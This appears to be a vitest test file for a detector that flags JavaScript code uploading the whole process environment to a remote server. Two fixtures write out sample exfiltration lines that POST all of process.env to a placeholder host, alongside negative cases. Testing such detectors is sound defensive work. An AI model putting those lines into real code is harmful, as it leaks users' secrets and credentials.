import { describe, expect, it } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-environment-upload.ts'

const seen = async (files: Record<string, string>): Promise<string[]> =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, where }) => `${strength} ${where.file}:${where.line}`,
  )

describe('the environment sent out', () => {
  it('as the body of a request', async () => {
    expect(
      await seen({
        'package.json': '{"name":"a","scripts":{"start":"node app.js"}}',
        'app.js': "const axios = require('axios')\naxios.post('https://a.invalid', { ...process.env })",
      }),
    ).toEqual(['decisive app.js:2'])
  })

  it('as text, by nobody’s start', async () => {
    expect(
      await seen({
        'app.js': "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
      }),
    ).toEqual(['strong app.js:1'])
  })

  it('not one variable', async () => {
    expect(
      await seen({
        'app.js':
          "fetch('https://a.example', { method: 'POST', headers: { key: process.env.KEY }, body: '{}' })",
      }),
    ).toEqual([])
  })

  it('not to a program of one’s own', async () => {
    expect(
      await seen({
        'app.js': "require('child_process').spawn('node', ['b.js'], { env: { ...process.env } })",
      }),
    ).toEqual([])
  })
})
